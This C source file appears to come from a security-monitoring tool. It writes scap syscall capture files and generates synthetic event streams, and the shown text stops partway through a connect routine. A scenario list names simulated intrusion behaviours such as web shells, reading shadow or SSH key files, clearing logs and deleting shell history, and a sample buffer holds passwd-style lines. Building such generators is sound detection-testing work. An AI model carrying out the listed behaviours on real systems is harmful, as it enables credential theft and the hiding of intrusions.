/*
 * capwriter.c - the scap block writer of capwriter.h. Metadata blocks are
 * assembled in a growable buffer (they are small and written once);
 * events are assembled in a fixed staging buffer and written with one
 * gzwrite each. All integers are written little-endian, the byte order of
 * every machine the captures are read on (the SHB magic says so). The
 * second half of the file is the scenario generator (vg_capgen_*).
 */
#include "sources/capwriter.h"

#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#define SHB_TYPE 0x0A0D0D0Au
#define SHB_MAGIC 0x1A2B3C4Du
#define BT_MI 0x201u
#define BT_PL9 0x215u
#define BT_FDL2 0x218u
#define BT_IL2 0x219u
#define BT_UL2 0x220u
#define BT_EV2 0x216u
#define BT_EV2_LARGE 0x221u
/* Parameter data limit of one non-large event: the reference reader takes
 * at most 64 KiB per block, header and length array included. */
#define EV_DATA_MAX 60000u
#define EV_HDR 26u

struct vg_capw {
  gzFile gz;
  vigil_status st; /* first error; sticky */
  char err[256];
  uint64_t count;
  /* metadata body under construction */
  uint8_t *mb;
  size_t mlen, mcap;
  /* event under construction */
  uint64_t ts;
  int64_t tid;
  uint16_t type, cpu;
  uint32_t np;
  int ev_bad;
  size_t dlen;
  uint32_t plen[VG_EVT_MAX_PARAMS];
  uint8_t data[EV_DATA_MAX];
  uint8_t out[EV_DATA_MAX + 8 + 2 + EV_HDR + 4 * VG_EVT_MAX_PARAMS + 8];
};

static void fail(vg_capw *w, vigil_status st, const char *fmt, ...) {
  if (w->st != VIGIL_OK)
    return;
  w->st = st;
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(w->err, sizeof w->err, fmt, ap);
  va_end(ap);
}

static void le16(uint8_t *p, uint16_t v) {
  p[0] = (uint8_t)v;
  p[1] = (uint8_t)(v >> 8);
}
static void le32(uint8_t *p, uint32_t v) {
  for (int i = 0; i < 4; i++)
    p[i] = (uint8_t)(v >> (8 * i));
}
static void le64(uint8_t *p, uint64_t v) {
  for (int i = 0; i < 8; i++)
    p[i] = (uint8_t)(v >> (8 * i));
}

static void emit(vg_capw *w, const void *p, size_t n) {
  if (w->st != VIGIL_OK || n == 0)
    return;
  if (gzwrite(w->gz, p, (unsigned)n) != (int)n) {
    int zerr = 0;
    const char *m = gzerror(w->gz, &zerr);
    fail(w, VIGIL_E_IO, "write failed: %s", m ? m : "I/O error");
  }
}

/* --- metadata body buffer ------------------------------------------- */

static uint8_t *mb_grow(vg_capw *w, size_t n) {
  if (w->st != VIGIL_OK)
    return NULL;
  if (w->mlen + n > w->mcap) {
    size_t cap = w->mcap ? w->mcap : 4096;
    while (cap < w->mlen + n)
      cap *= 2;
    uint8_t *nb = realloc(w->mb, cap);
    if (!nb) {
      fail(w, VIGIL_E_NOMEM, "out of memory");
      return NULL;
    }
    w->mb = nb;
    w->mcap = cap;
  }
  uint8_t *p = w->mb + w->mlen;
  w->mlen += n;
  return p;
}

static void mb_u8(vg_capw *w, uint8_t v) {
  uint8_t *p = mb_grow(w, 1);
  if (p)
    *p = v;
}
static void mb_u16(vg_capw *w, uint16_t v) {
  uint8_t *p = mb_grow(w, 2);
  if (p)
    le16(p, v);
}
static void mb_u32(vg_capw *w, uint32_t v) {
  uint8_t *p = mb_grow(w, 4);
  if (p)
    le32(p, v);
}
static void mb_u64(vg_capw *w, uint64_t v) {
  uint8_t *p = mb_grow(w, 8);
  if (p)
    le64(p, v);
}
static void mb_raw(vg_capw *w, const void *s, size_t n) {
  uint8_t *p = mb_grow(w, n);
  if (p && n)
    memcpy(p, s, n);
}
/* lstr: u16 length then the bytes, no NUL */
static void mb_lbytes(vg_capw *w, const void *s, size_t n, size_t max,
                      const char *what) {
  if (n > max) {
    fail(w, VIGIL_E_INVAL, "%s too long (%zu bytes, at most %zu)", what,
         n, max);
    return;
  }
  mb_u16(w, (uint16_t)n);
  mb_raw(w, s, n);
}
static void mb_lstr(vg_capw *w, const char *s, size_t max, const char *what) {
  mb_lbytes(w, s, s ? strlen(s) : 0, max, what);
}

/* Frames the body in mb as one block of type BT and writes it. */
static vigil_status mb_flush(vg_capw *w, uint32_t bt) {
  if (w->st != VIGIL_OK)
    return w->st;
  size_t pad = (4 - (w->mlen & 3)) & 3;
  size_t total = 12 + w->mlen + pad;
  if (total > 0xFFFFFFF0u)
    fail(w, VIGIL_E_INVAL, "metadata block too large");
  uint8_t h[8], z[4] = {0, 0, 0, 0}, t[4];
  le32(h, bt);
  le32(h + 4, (uint32_t)total);
  le32(t, (uint32_t)total);
  emit(w, h, 8);
  emit(w, w->mb, w->mlen);
  emit(w, z, pad);
  emit(w, t, 4);
  w->mlen = 0;
  return w->st;
}

/* --- open / close ---------------------------------------------------- */

vigil_status vg_capw_open(const char *path, int gzip_level, vg_capw **out,
                          char *err, size_t errlen) {
  if (gzip_level < 0 || gzip_level > 9) {
    snprintf(err, errlen, "gzip level %d out of range 0..9", gzip_level);
    return VIGIL_E_INVAL;
  }
  vg_capw *w = calloc(1, sizeof *w);
  if (!w) {
    snprintf(err, errlen, "out of memory");
    return VIGIL_E_NOMEM;
  }
  char mode[8];
  if (gzip_level == 0)
    snprintf(mode, sizeof mode, "wbT");
  else
    snprintf(mode, sizeof mode, "wb%d", gzip_level);
  if (strcmp(path, "-") == 0)
    w->gz = gzdopen(1, mode);
  else
    w->gz = gzopen(path, mode);
  if (!w->gz) {
    snprintf(err, errlen, "%s: cannot open for writing", path);
    free(w);
    return VIGIL_E_IO;
  }
  gzbuffer(w->gz, 256 * 1024);
  /* SHB: type, length 28, magic, version 1.2, section length unknown */
  uint8_t shb[28];
  le32(shb, SHB_TYPE);
  le32(shb + 4, 28);
  le32(shb + 8, SHB_MAGIC);
  le16(shb + 12, 1);
  le16(shb + 14, 2);
  le64(shb + 16, UINT64_MAX);
  le32(shb + 24, 28);
  emit(w, shb, sizeof shb);
  if (w->st != VIGIL_OK) {
    snprintf(err, errlen, "%s: %s", path, w->err);
    vigil_status st = w->st;
    gzclose(w->gz);
    free(w);
    return st;
  }
  *out = w;
  return VIGIL_OK;
}

vigil_status vg_capw_close(vg_capw *w, char *err, size_t errlen) {
  if (!w)
    return VIGIL_OK;
  errno = 0;
  int rc = gzclose(w->gz);
  if (rc == Z_ERRNO)
    fail(w, VIGIL_E_IO, "write failed: %s",
         errno ? strerror(errno) : "I/O error");
  else if (rc != Z_OK)
    fail(w, VIGIL_E_IO, "close failed (zlib error %d)", rc);
  vigil_status st = w->st;
  if (st != VIGIL_OK && err && errlen)
    snprintf(err, errlen, "%s", w->err);
  free(w->mb);
  free(w);
  return st;
}

const char *vg_capw_error(const vg_capw *w) { return w->err; }

uint64_t vg_capw_count(const vg_capw *w) { return w->count; }

/* --- metadata blocks ------------------------------------------------- */

vigil_status vg_capw_machine(vg_capw *w, uint32_t ncpus, uint64_t mem,
                             uint64_t pid_max, const char *host,
                             uint64_t boot_ts) {
  uint8_t hn[128];
  memset(hn, 0, sizeof hn);
  if (host) {
    size_t n = strlen(host);
    memcpy(hn, host, n < sizeof hn - 1 ? n : sizeof hn - 1);
  }
  mb_u32(w, ncpus);
  mb_u64(w, mem);
  mb_u64(w, pid_max);
  mb_raw(w, hn, sizeof hn);
  mb_u64(w, boot_ts);
  mb_u64(w, 0); /* flags */
  mb_u64(w, 0);
  mb_u64(w, 0);
  return mb_flush(w, BT_MI);
}

vigil_status vg_capw_ifaces(vg_capw *w, const vg_scap_iface *v, size_t n) {
  for (size_t i = 0; i < n && w->st == VIGIL_OK; i++) {
    const char *name = v[i].name ? v[i].name : "";
    size_t nl = strlen(name);
    if (nl >= 1024) {
      fail(w, VIGIL_E_INVAL, "interface name too long");
      break;
    }
    /* IL v2: u32 length of the entry, not counting itself */
    if (!v[i].is_v6) {
      mb_u32(w, (uint32_t)(2 + 2 + 12 + 8 + nl));
      mb_u16(w, 1);
      mb_u16(w, (uint16_t)nl);
      mb_raw(w, v[i].addr, 4);
      mb_raw(w, v[i].netmask, 4);
      uint8_t bc[4];
      for (int k = 0; k < 4; k++)
        bc[k] = (uint8_t)(v[i].addr[k] | (uint8_t)~v[i].netmask[k]);
      mb_raw(w, bc, 4);
    } else {
      mb_u32(w, (uint32_t)(2 + 2 + 48 + 8 + nl));
      mb_u16(w, 2);
      mb_u16(w, (uint16_t)nl);
      mb_raw(w, v[i].addr, 16);
      mb_raw(w, v[i].netmask, 16);
      uint8_t zero[16];
      memset(zero, 0, sizeof zero);
      mb_raw(w, zero, 16);
    }
    mb_u64(w, 0); /* link speed */
    mb_raw(w, name, nl);
  }
  return mb_flush(w, BT_IL2);
}

vigil_status vg_capw_users(vg_capw *w, const vg_scap_user *v, size_t n) {
  for (size_t i = 0; i < n && w->st == VIGIL_OK; i++) {
    size_t start = w->mlen;
    mb_u32(w, 0); /* UL v2 entry length, counting itself; patched below */
    mb_u8(w, v[i].is_group ? 1 : 0);
    if (!v[i].is_group) {
      mb_u32(w, v[i].uid);
      mb_u32(w, v[i].gid);
      mb_lstr(w, v[i].name, 255, "user name");
      mb_lstr(w, v[i].home, 255, "home directory");
      mb_lstr(w, v[i].shell, 255, "shell");
    } else {
      mb_u32(w, v[i].gid);
      mb_lstr(w, v[i].name, 255, "group name");
    }
    if (w->st == VIGIL_OK)
      le32(w->mb + start, (uint32_t)(w->mlen - start));
  }
  return mb_flush(w, BT_UL2);
}

vigil_status vg_capw_procs(vg_capw *w, const vg_scap_proc *v, size_t n) {
  for (size_t i = 0; i < n && w->st == VIGIL_OK; i++) {
    const vg_scap_proc *p = &v[i];
    size_t start = w->mlen;
    mb_u32(w, 0); /* PL v9 entry length, counting itself; patched below */
    mb_u64(w, (uint64_t)p->tid);
    mb_u64(w, (uint64_t)p->pid);
    mb_u64(w, (uint64_t)p->ptid);
    mb_u64(w, (uint64_t)p->sid);
    mb_u64(w, (uint64_t)p->vpgid);
    mb_lstr(w, p->comm, 1024, "comm");
    mb_lstr(w, p->exe, 1024, "exe");
    mb_lstr(w, p->exepath, 1024, "exepath");
    mb_lbytes(w, p->args, p->args_len, 4096, "args");
    mb_lstr(w, p->cwd, 1024, "cwd");
    mb_u64(w, p->fdlimit);
    mb_u32(w, p->flags);
    mb_u32(w, p->uid);
    mb_u32(w, p->gid);
    mb_u32(w, p->vmsize_kb);
    mb_u32(w, p->vmrss_kb);
    mb_u32(w, p->vmswap_kb);
    mb_u64(w, p->pfmajor);
    mb_u64(w, p->pfminor);
    mb_lbytes(w, p->env, p->env_len, 4096, "env");
    mb_u64(w, (uint64_t)p->vtid);
    mb_u64(w, (uint64_t)p->vpid);
    mb_lbytes(w, p->cgroups, p->cgroups_len, 4096, "cgroups");
    mb_lstr(w, p->root, 1024, "root");
    /* The pre-0.10 tail (29 bytes): readers before libs 0.10, such as
     * sysdig 0.29.3, and current ones (by the pre-0.10 rule) agree on it. */
    mb_u32(w, p->loginuid);
    mb_u8(w, p->exe_writable);
    mb_u64(w, p->cap_inh);
    mb_u64(w, p->cap_prm);
    mb_u64(w, p->cap_eff);
    if (w->st == VIGIL_OK)
      le32(w->mb + start, (uint32_t)(w->mlen - start));
  }
  return mb_flush(w, BT_PL9);
}

vigil_status vg_capw_fds(vg_capw *w, int64_t tid, const vg_scap_fd *v,
                         size_t n) {
  mb_u64(w, (uint64_t)tid);
  for (size_t i = 0; i < n && w->st == VIGIL_OK; i++) {
    const vg_scap_fd *f = &v[i];
    size_t start = w->mlen;
    mb_u32(w, 0); /* FDL v2 entry length, counting itself */
    mb_u64(w, (uint64_t)f->fd);
    mb_u64(w, f->ino);
    mb_u8(w, f->type);
    switch (f->type) {
    case 3: /* IPv4 socket */
      mb_raw(w, f->sip, 4);
      mb_raw(w, f->dip, 4);
      mb_u16(w, f->sport);
      mb_u16(w, f->dport);
      mb_u8(w, f->l4proto);
      break;
    case 4: /* IPv6 socket */
      mb_raw(w, f->sip, 16);
      mb_raw(w, f->dip, 16);
      mb_u16(w, f->sport);
      mb_u16(w, f->dport);
      mb_u8(w, f->l4proto);
      break;
    case 5: /* IPv4 server socket */
      mb_raw(w, f->sip, 4);
      mb_u16(w, f->sport);
      mb_u8(w, f->l4proto);
      break;
    case 6:
      mb_raw(w, f->sip, 16);
      mb_u16(w, f->sport);
      mb_u8(w, f->l4proto);
      break;
    case 8: /* unix socket */
      mb_u64(w, f->usrc);
      mb_u64(w, f->udst);
      mb_lstr(w, f->name, 1023, "fd name");
      break;
    case 1: case 2: case 7: case 9: case 10: case 11: case 12: case 13:
    case 14: case 15:
      mb_lstr(w, f->name, 1023, "fd name");
      break;
    default:
      fail(w, VIGIL_E_INVAL, "fd %lld: fd type %u cannot be written",
           (long long)f->fd, (unsigned)f->type);
      break;
    }
    if (w->st == VIGIL_OK)
      le32(w->mb + start, (uint32_t)(w->mlen - start));
  }
  return mb_flush(w, BT_FDL2);
}

/* --- events ---------------------------------------------------------- */

static int is_large(uint16_t type) {
  return type == 322 || type == 324 || type == 402;
}

void vg_capw_ev_begin(vg_capw *w, uint64_t ts, int64_t tid, uint16_t type,
                      uint16_t cpu) {
  w->ts = ts;
  w->tid = tid;
  w->type = type;
  w->cpu = cpu;
  w->np = 0;
  w->dlen = 0;
  w->ev_bad = 0;
}

static uint8_t *ev_param(vg_capw *w, size_t n) {
  if (w->ev_bad)
    return NULL;
  if (w->np >= VG_EVT_MAX_PARAMS || n > EV_DATA_MAX - w->dlen) {
    w->ev_bad = 1;
    return NULL;
  }
  uint8_t *p = w->data + w->dlen;
  w->plen[w->np++] = (uint32_t)n;
  w->dlen += n;
  return p;
}

void vg_capw_p_empty(vg_capw *w) { (void)ev_param(w, 0); }

void vg_capw_p_bytes(vg_capw *w, const void *p, size_t n) {
  uint8_t *d = ev_param(w, n);
  if (d && n)
    memcpy(d, p, n);
}

void vg_capw_p_str(vg_capw *w, const char *s) {
  if (!s) {
    vg_capw_p_empty(w);
    return;
  }
  vg_capw_p_bytes(w, s, strlen(s) + 1);
}

void vg_capw_p_u8(vg_capw *w, uint8_t v) { vg_capw_p_bytes(w, &v, 1); }

void vg_capw_p_u16(vg_capw *w, uint16_t v) {
  uint8_t *d = ev_param(w, 2);
  if (d)
    le16(d, v);
}

void vg_capw_p_u32(vg_capw *w, uint32_t v) {
  uint8_t *d = ev_param(w, 4);
  if (d)
    le32(d, v);
}

void vg_capw_p_u64(vg_capw *w, uint64_t v) {
  uint8_t *d = ev_param(w, 8);
  if (d)
    le64(d, v);
}

static void be32(uint8_t *p, uint32_t v) {
  p[0] = (uint8_t)(v >> 24);
  p[1] = (uint8_t)(v >> 16);
  p[2] = (uint8_t)(v >> 8);
  p[3] = (uint8_t)v;
}

void vg_capw_p_sockaddr4(vg_capw *w, uint32_t ip, uint16_t port) {
  uint8_t *d = ev_param(w, 7);
  if (!d)
    return;
  d[0] = 2; /* PPM_AF_INET */
  be32(d + 1, ip);
  le16(d + 5, port);
}

void vg_capw_p_socktuple4(vg_capw *w, uint32_t sip, uint16_t sport,
                          uint32_t dip, uint16_t dport) {
  uint8_t *d = ev_param(w, 13);
  if (!d)
    return;
  d[0] = 2;
  be32(d + 1, sip);
  le16(d + 5, sport);
  be32(d + 7, dip);
  le16(d + 11, dport);
}

vigil_status vg_capw_ev_end(vg_capw *w) {
  if (w->st != VIGIL_OK)
    return w->st;
  if (w->ev_bad) {
    fail(w, VIGIL_E_INVAL,
         "event %llu (type %u): more than %u parameters or %u bytes",
         (unsigned long long)w->count, (unsigned)w->type,
         (unsigned)VG_EVT_MAX_PARAMS, (unsigned)EV_DATA_MAX);
    return w->st;
  }
  int large = is_large(w->type);
  size_t lw = large ? 4 : 2;
  size_t evlen = EV_HDR + lw * w->np + w->dlen;
  size_t pad = (4 - ((2 + evlen) & 3)) & 3;
  size_t total = 8 + 2 + evlen + pad + 4;
  uint8_t *o = w->out;
  le32(o, large ? BT_EV2_LARGE : BT_EV2);
  le32(o + 4, (uint32_t)total);
  le16(o + 8, w->cpu);
  uint8_t *h = o + 10;
  le64(h, w->ts);
  le64(h + 8, (uint64_t)w->tid);
  le32(h + 16, (uint32_t)evlen);
  le16(h + 20, w->type);
  le32(h + 22, w->np);
  uint8_t *q = h + EV_HDR;
  for (uint32_t i = 0; i < w->np; i++) {
    if (large)
      le32(q, w->plen[i]);
    else
      le16(q, (uint16_t)w->plen[i]);
    q += lw;
  }
  memcpy(q, w->data, w->dlen);
  q += w->dlen;
  memset(q, 0, pad);
  q += pad;
  le32(q, (uint32_t)total);
  emit(w, o, total);
  if (w->st == VIGIL_OK)
    w->count++;
  return w->st;
}

/* ===================================================================== */
/* Scenario generator                                                    */
/* ===================================================================== */

#define G_MAXP 96
#define G_MAXFD 24
#define G_NCTR 3
#define AT_FDCWD_ (-100)
#define HOST_IP 0x0A00020Fu /* 10.0.2.15 */

/* PPM_O_* open flags and other driver constants used below */
#define O_RD 1u
#define O_WR 2u
#define O_CREAT_ 4u
#define O_APPEND_ 8u
#define O_TRUNC_ 256u
#define O_CLOEXEC_ 4096u
#define O_F_CREATED_ 16384u
#define CAPS_ROOT 0x000001ffffffffffull
#define TTY_PTS0 34816u

enum gfd_type { GF_FILE = 1, GF_SOCK4 = 3, GF_SERV4 = 5, GF_FIFO = 7 };

typedef struct gfd {
  int64_t fd;
  uint8_t type;
  uint32_t sip, dip;
  uint16_t sport, dport;
  char name[112];
} gfd;

enum grole {
  R_OTHER,
  R_INIT,
  R_SSHD,
  R_CRON,
  R_RSYSLOG,
  R_CONTAINERD,
  R_DOCKERD,
  R_SHIM,
  R_SSH_SESSION,
  R_BASH,
  R_ROOTSH,
  R_PYTHON,
  R_NGINX_MASTER,
  R_NGINX_WORKER,
  R_POSTGRES,
  R_NODE,
  R_THREAD
};

typedef struct gproc {
  int live, spawned, role, ctr;
  int64_t tid, pid, ptid, vtid, vpid;
  char comm[16], exe[64], exepath[96], cwd[64];
  char args[192];
  size_t args_len;
  uint32_t uid, gid, tty, loginuid;
  uint32_t ttl; /* spawned processes: background turns left */
  int nfd;
  gfd fd[G_MAXFD];
} gproc;

typedef struct gctr {
  char id[65];
  const char *name, *image, *repo, *tag;
  uint32_t ip;
  int64_t next_vpid;
  int shim; /* index of its containerd-shim in the process table */
} gctr;

typedef struct gen {
  vg_capw *w;
  uint64_t rng, ts, limit;
  int exit_only, stop;
  uint32_t rate, wsum;
  uint32_t wt[VG_CAPGEN__COUNT];
  gproc p[G_MAXP];
  gctr c[G_NCTR];
  int64_t next_tid;
  uint64_t next_ino;
  vg_capgen_stats st;
} gen;

static const char *const KIND_NAMES[VG_CAPGEN__COUNT] = {
    "web_shell", "term_shell", "pkg_mgr",    "shadow",
    "bin_write", "connect",    "host_spawn", "ssh_keys",
    "log_clear", "history_del"};

const char *vg_capgen_kind_name(int k) {
  return k >= 0 && k < VG_CAPGEN__COUNT ? KIND_NAMES[k] : NULL;
}

/* splitmix64: small, fast, and the same everywhere */
static uint64_t rnd(gen *g) {
  uint64_t z = (g->rng += 0x9E3779B97F4A7C15ull);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}
static uint32_t rn(gen *g, uint32_t n) { return (uint32_t)(rnd(g) % n); }

static void cpy(char *d, size_t n, const char *s) {
  snprintf(d, n, "%s", s ? s : "");
}

/* --- event emission -------------------------------------------------- */

static int ev(gen *g, int64_t tid, uint16_t type) {
  if (g->stop || vg_capw_count(g->w) >= g->limit) {
    g->stop = 1;
    return 0;
  }
  g->ts += 150 + rn(g, 1800);
  vg_capw_ev_begin(g->w, g->ts, tid, type, (uint16_t)((uint64_t)tid & 3));
  return 1;
}
/* Enter events are skipped in exit-only mode except those current drivers
 * still emit (open, openat, connect, execve). */
static int ev_e(gen *g, int64_t tid, uint16_t type) {
  if (g->exit_only && type != 2 && type != 306 && type != 22 && type != 292)
    return 0;
  return ev(g, tid, type);
}
static void end(gen *g) {
  if (vg_capw_ev_end(g->w) != VIGIL_OK)
    g->stop = 1;
}

static const char TEXT[] =
    "GET /api/v1/items?page=2 HTTP/1.1\r\nHost: shop.example.com\r\n"
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n"
    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"ok\":1}"
    "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/"
    "sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";

static void p_data(gen *g, int64_t res) {
  size_t n = res > 0 ? (size_t)res : 0;
  if (n > 80)
    n = 80;
  size_t off = rn(g, (uint32_t)(sizeof TEXT - 81));
  vg_capw_p_bytes(g->w, TEXT + off, n);
}

static void vm_stats(gen *g, gproc *p) {
  uint32_t base = 8000 + (uint32_t)(p->tid % 97) * 512;
  vg_capw_p_u32(g->w, base + rn(g, 64) * 4);
  vg_capw_p_u32(g->w, base / 3);
  vg_capw_p_u32(g->w, 0);
}

/* --- fd model -------------------------------------------------------- */

static gfd *fd_add(gproc *p, uint8_t type, const char *name) {
  if (p->nfd >= G_MAXFD)
    return NULL;
  int64_t fd = 0;
  for (;; fd++) { /* lowest free number, as the kernel does */
    int used = 0;
    for (int i = 0; i < p->nfd; i++)
      used |= p->fd[i].fd == fd;
    if (!used)
      break;
  }
  gfd *f = &p->fd[p->nfd++];
  memset(f, 0, sizeof *f);
  f->fd = fd;
  f->type = type;
  cpy(f->name, sizeof f->name, name);
  return f;
}
static void fd_del(gproc *p, int64_t fd) {
  for (int i = 0; i < p->nfd; i++)
    if (p->fd[i].fd == fd) {
      p->fd[i] = p->fd[--p->nfd];
      return;
    }
}
static gfd *fd_pick(gen *g, gproc *p, int io_only) {
  if (p->nfd == 0)
    return NULL;
  for (int tries = 0; tries < 4; tries++) {
    gfd *f = &p->fd[rn(g, (uint32_t)p->nfd)];
    if (!io_only || f->type == GF_FILE || f->type == GF_SOCK4 ||
        f->type == GF_FIFO)
      return f;
  }
  return NULL;
}

/* --- system calls (enter/exit pairs, current layouts) ---------------- */

static void sc_rw(gen *g, gproc *p, gfd *f, int wr) {
  uint32_t size = f->type == GF_SOCK4 ? 16384 : 4096;
  int64_t res = 1 + rn(g, size);
  if (ev_e(g, p->tid, wr ? 8 : 6)) {
    vg_capw_p_u64(g->w, (uint64_t)f->fd);
    vg_capw_p_u32(g->w, size);
    end(g);
  }
  if (ev(g, p->tid, wr ? 9 : 7)) {
    vg_capw_p_u64(g->w, (uint64_t)res);
    p_data(g, res);
    vg_capw_p_u64(g->w, (uint64_t)f->fd);
    vg_capw_p_u32(g->w, size);
    end(g);
  }
}

static gfd *sc_openat(gen *g, gproc *p, const char *path, uint32_t flags,
                      uint32_t mode) {
  if (ev_e(g, p->tid, 306)) {
    vg_capw_p_u64(g->w, (uint64_t)(int64_t)AT_FDCWD_);
    vg_capw_p_str(g->w, path);
    vg_capw_p_u32(g->w, flags);
    vg_capw_p_u32(g->w, mode);
    end(g);
  }
  gfd *f = fd_add(p, GF_FILE, path);
  int64_t fd = f ? f->fd : -24; /* EMFILE when our table is full */
  uint32_t xflags = flags | ((flags & O_CREAT_) ? O_F_CREATED_ : 0);
  if (ev(g, p->tid, 307)) {
    vg_capw_p_u64(g->w, (uint64_t)fd);
    vg_capw_p_u64(g->w, (uint64_t)(int64_t)AT_FDCWD_);
    vg_capw_p_str(g->w, path);
    vg_capw_p_u32(g->w, xflags);
    vg_capw_p_u32(g->w, mode);
    vg_capw_p_u32(g->w, p->ctr >= 0 ? 0x2b : 0x803);
    vg_capw_p_u64(g->w, g->next_ino++);
    end(g);
  }
  return f;
}

static void sc_close(gen *g, gproc *p, int64_t fd) {
  if (ev_e(g, p->tid, 4)) {
    vg_capw_p_u64(g->w, (uint64_t)fd);
    end(g);
  }
  if (ev(g, p->tid, 5)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, (uint64_t)fd);
    end(g);
  }
  fd_del(p, fd);
}

static void sc_fstat(gen *g, gproc *p, int64_t fd) {
  if (ev_e(g, p->tid, 70)) {
    vg_capw_p_u64(g->w, (uint64_t)fd);
    end(g);
  }
  if (ev(g, p->tid, 71)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, (uint64_t)fd);
    end(g);
  }
}

static void sc_mmap(gen *g, gproc *p, int64_t fd, uint64_t len) {
  uint64_t addr = 0x7f0000000000ull + ((rnd(g) & 0xffffffull) << 12);
  uint32_t prot = fd >= 0 ? 5 : 3, flags = fd >= 0 ? 2 : 10;
  if (ev_e(g, p->tid, 160)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, len);
    vg_capw_p_u32(g->w, prot);
    vg_capw_p_u32(g->w, flags);
    vg_capw_p_u64(g->w, (uint64_t)fd);
    vg_capw_p_u64(g->w, 0);
    end(g);
  }
  if (ev(g, p->tid, 161)) {
    vg_capw_p_u64(g->w, addr);
    vm_stats(g, p);
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, len);
    vg_capw_p_u32(g->w, prot);
    vg_capw_p_u32(g->w, flags);
    vg_capw_p_u64(g->w, (uint64_t)fd);
    vg_capw_p_u64(g->w, 0);
    end(g);
  }
}

static void sc_munmap(gen *g, gproc *p) {
  uint64_t addr = 0x7f0000000000ull + ((rnd(g) & 0xffffffull) << 12);
  uint64_t len = 4096ull << rn(g, 6);
  if (ev_e(g, p->tid, 164)) {
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u64(g->w, len);
    end(g);
  }
  if (ev(g, p->tid, 165)) {
    vg_capw_p_u64(g->w, 0);
    vm_stats(g, p);
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u64(g->w, len);
    end(g);
  }
}

static void sc_mprotect(gen *g, gproc *p) {
  uint64_t addr = 0x7f0000000000ull + ((rnd(g) & 0xffffffull) << 12);
  if (ev_e(g, p->tid, 328)) {
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u64(g->w, 4096);
    vg_capw_p_u32(g->w, 1);
    end(g);
  }
  if (ev(g, p->tid, 329)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u64(g->w, 4096);
    vg_capw_p_u32(g->w, 1);
    end(g);
  }
}

static void sc_futex(gen *g, gproc *p) {
  uint64_t addr = 0x7ffd00000000ull + ((rnd(g) & 0xfffffull) << 2);
  uint16_t op = rn(g, 2) ? 128 : 129; /* WAIT|PRIVATE or WAKE|PRIVATE */
  if (ev_e(g, p->tid, 64)) {
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u16(g->w, op);
    vg_capw_p_u64(g->w, 1);
    end(g);
  }
  if (ev(g, p->tid, 65)) {
    vg_capw_p_u64(g->w, op == 129 ? 1 : 0);
    vg_capw_p_u64(g->w, addr);
    vg_capw_p_u16(g->w, op);
    vg_capw_p_u64(g->w, 1);
    end(g);
  }
}

static void sc_epoll_wait(gen *g, gproc *p) {
  if (ev_e(g, p->tid, 78)) {
    vg_capw_p_u64(g->w, 512);
    end(g);
  }
  if (ev(g, p->tid, 79)) {
    vg_capw_p_u64(g->w, rn(g, 3));
    vg_capw_p_u64(g->w, 512);
    end(g);
  }
}

static void sc_nanosleep(gen *g, gproc *p) {
  uint64_t ns = 1000000ull * (1 + rn(g, 100));
  if (ev_e(g, p->tid, 134)) {
    vg_capw_p_u64(g->w, ns);
    end(g);
  }
  if (ev(g, p->tid, 135)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, ns);
    end(g);
  }
}

static void sc_brk(gen *g, gproc *p) {
  uint64_t addr = 0x55d000000000ull + ((rnd(g) & 0xfffffull) << 12);
  if (ev_e(g, p->tid, 158)) {
    vg_capw_p_u64(g->w, addr);
    end(g);
  }
  if (ev(g, p->tid, 159)) {
    vg_capw_p_u64(g->w, addr);
    vm_stats(g, p);
    vg_capw_p_u64(g->w, addr);
    end(g);
  }
}

static void sc_fcntl(gen *g, gproc *p, int64_t fd) {
  if (ev_e(g, p->tid, 150)) {
    vg_capw_p_u64(g->w, (uint64_t)fd);
    vg_capw_p_u8(g->w, 4); /* F_GETFL */
    end(g);
  }
  if (ev(g, p->tid, 151)) {
    vg_capw_p_u64(g->w, 2);
    vg_capw_p_u64(g->w, (uint64_t)fd);
    vg_capw_p_u8(g->w, 4);
    vg_capw_p_u64(g->w, 0);
    end(g);
  }
}

static gfd *sc_socket(gen *g, gproc *p) {
  if (ev_e(g, p->tid, 18)) {
    vg_capw_p_u32(g->w, 2);
    vg_capw_p_u32(g->w, 1);
    vg_capw_p_u32(g->w, 0);
    end(g);
  }
  gfd *f = fd_add(p, GF_SOCK4, "");
  if (ev(g, p->tid, 19)) {
    vg_capw_p_u64(g->w, f ? (uint64_t)f->fd : (uint64_t)(int64_t)-24);
    vg_capw_p_u32(g->w, 2);
    vg_capw_p_u32(g->w, 1);
    vg_capw_p_u32(g->w, 0);
    vg_capw_p_u32(g->w, 0);
    end(g);
  }
  return f;
}

static uint32_t proc_ip(gen *g, const gproc *p) {
  return p->ctr >= 0 ? g->c[p->ctr].ip : HOST_IP;
}

static void sc_connect(gen *g, gproc *p, gfd *f, uint32_t dip,
                       uint16_t dport) {
  uint32_t sip = proc_ip(g, p);
  uint16_t sport = (uint16_t)(32768 + rn(g, 28000));
  if (ev_e(g, p->tid, 22)) {
    vg_capw_p_u64(g->w, (uint64_t)f->fd);
    vg_capw_p_sockaddr4(g->w, dip, dport);
    end(g);
  }
  if (ev(g, p->tid, 23)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_socktuple4(g->w, sip, sport, dip, dport);
    vg_capw_p_u64(g->w, (uint64_t)f->fd);
    vg_capw_p_sockaddr4(g->w, dip, dport);
    end(g);
  }
